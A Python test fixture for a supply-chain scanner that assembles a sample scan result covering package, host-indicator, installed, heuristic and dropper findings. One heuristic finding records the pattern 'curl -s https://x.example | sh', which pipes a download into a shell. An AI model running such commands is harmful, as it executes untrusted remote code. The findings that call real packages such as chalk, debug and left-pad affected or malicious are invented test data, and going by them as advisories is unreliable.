"""A fixed ScanResult covering every finding type, for the SARIF and Markdown golden files."""

from __future__ import annotations

from pathlib import Path

import pytest

from gouvernante.model import (
    Finding,
    FindingType,
    HashResult,
    LockfileFormat,
    MatchKind,
    ScanIssue,
    ScanResult,
    ScanStats,
    Source,
)
from gouvernante.rules.loader import load_rule_files
from gouvernante.rules.model import Rule
from gouvernante.vocab import Severity

HERE = Path(__file__).parent
RULES = HERE / "fixtures" / "rules.json"


def load_rules() -> tuple[Rule, ...]:
    ruleset, errors = load_rule_files([str(RULES)])
    assert errors == []
    return tuple(ruleset.rules)


def sample_result() -> ScanResult:
    rules = {r.id: r for r in load_rules()}
    r1, r2, r3 = rules["TEST-2026-001"], rules["TEST-2026-002"], rules["TEST-2026-003"]
    fix = r1.remediation.text() if r1.remediation else None
    findings = [
        Finding(
            rule_id=r1.id,
            rule_title=r1.title,
            severity=r1.severity,
            type=FindingType.PACKAGE,
            match=MatchKind.VERSION,
            description="chalk@4.1.2 is affected by TEST-2026-001 (version matches =4.1.2)",
            remediation=fix,
            package="chalk",
            version="4.1.2",
            matched_expression="=4.1.2",
            source=Source.REGISTRY,
            lockfile="package-lock.json",
            lockfile_format=LockfileFormat.PACKAGE_LOCK,
            line=577,
            dependency_paths=(("demo-app", "chalk@4.1.2"),),
            direct=True,
        ),
        Finding(
            rule_id=r1.id,
            rule_title=r1.title,
            severity=r1.severity,
            type=FindingType.PACKAGE,
            match=MatchKind.VERSION,
            description="debug@4.3.4 is affected by TEST-2026-001 (version matches >=4.3.0 <4.3.5)",
            remediation=fix,
            package="debug",
            version="4.3.4",
            matched_expression=">=4.3.0 <4.3.5",
            source=Source.REGISTRY,
            lockfile="packages/api/pnpm-lock.yaml",
            lockfile_format=LockfileFormat.PNPM,
            line=439,
            dependency_paths=(
                ("@demo/api", "express@4.18.2", "debug@4.3.4"),
                ("@demo/api", "body-parser@1.20.1", "debug@4.3.4"),
            ),
            more_paths=3,
            direct=False,
        ),
        Finding(
            rule_id=r2.id,
            rule_title=r2.title,
            severity=r2.severity,
            type=FindingType.PACKAGE,
            match=MatchKind.DECLARED_RANGE,
            description="package.json declares ms with range '^2.1.0' in dependencies, which can"
            " resolve to a release affected by TEST-2026-002 (=2.1.2); no lockfile of this"
            " project resolves it",
            package="ms",
            declared_range="^2.1.0",
            matched_expression="=2.1.2",
            lockfile="apps/web/package.json",
            lockfile_format=LockfileFormat.PACKAGE_JSON,
        ),
        Finding(
            rule_id=r1.id,
            rule_title=r1.title,
            severity=r1.severity,
            type=FindingType.HOST_INDICATOR,
            match=MatchKind.HASH,
            description="file /tmp/.node-cache exists, an indicator of TEST-2026-001; its hash"
            " matches a known-malicious hash",
            remediation=fix,
            path="/tmp/.node-cache",
            indicator="file /tmp/.node-cache",
            hashes=(HashResult("sha256", "ab" * 32, True),),
            confidence="high",
        ),
        Finding(
            rule_id=r1.id,
            rule_title=r1.title,
            severity=r1.severity,
            type=FindingType.INSTALLED,
            match=MatchKind.VERSION,
            description="chalk@4.1.2 is installed in node_modules at"
            " /home/dev/demo/node_modules/chalk: affected by TEST-2026-001",
            remediation=fix,
            package="chalk",
            version="4.1.2",
            matched_expression="=4.1.2",
            path="/home/dev/demo/node_modules/chalk",
            install_scripts=("postinstall",),
        ),
        Finding(
            rule_id="HEUR-EXAMPLE-PATTERN",
            rule_title="Install-time code pipes a download into a shell (example pattern)",
            severity=Severity.CRITICAL,
            type=FindingType.HEURISTIC,
            match=MatchKind.PATTERN,
            description="postinstall pipes curl into sh",
            remediation="Review the code at this place.",
            package="evil-helper",
            version="0.0.1",
            matched_expression="curl -s https://x.example | sh",
            path="/home/dev/demo/node_modules/evil-helper/package.json",
            line=7,
            confidence="high",
        ),
        Finding(
            rule_id=r3.id,
            rule_title=r3.title,
            severity=r3.severity,
            type=FindingType.PACKAGE,
            match=MatchKind.DROPPER,
            description="left-pad@1.3.0 is a dropper package named by TEST-2026-003: any version"
            " is malicious",
            package="left-pad",
            version="1.3.0",
            source=Source.REGISTRY,
            lockfile="legacy/yarn.lock",
            lockfile_format=LockfileFormat.YARN_CLASSIC,
            line=117,
            dependency_paths=(("legacy", "left-pad@1.3.0"),),
            direct=True,
            suppressed="internal mirror of left-pad, reviewed (until 2026-12-31)",
        ),
    ]
    findings.sort(key=Finding.sort_key)
    return ScanResult(
        findings=tuple(findings),
        errors=(ScanIssue("tools/bun.lockb", "bun's binary lockfile: convert it to bun.lock"),),
        notes=(),
        stats=ScanStats(lockfiles_scanned=4, packages_scanned=321, rules_loaded=3, elapsed_ms=42),
        scanned_files=(
            "package-lock.json",
            "packages/api/pnpm-lock.yaml",
            "apps/web/package.json",
            "legacy/yarn.lock",
            "tools/bun.lockb",
        ),
        rule_sources=("tests/report/fixtures/rules.json",),
        rules=tuple(rules.values()),
        scan_id="00000000-0000-4000-8000-000000000001",
        started_at="2026-04-01T12:30:00Z",
        finished_at="2026-04-01T12:30:01Z",
        scan_root="/work/demo",
        hostname="build-01",
        suppression_notes=(
            ScanIssue(
                ".gouvernante-ignore.json",
                "suppressions[1] (package=colors): stale, matched no finding: remove it",
            ),
        ),
    )


@pytest.fixture
def sample() -> ScanResult:
    return sample_result()


@pytest.fixture
def rules() -> tuple[Rule, ...]:
    return load_rules()
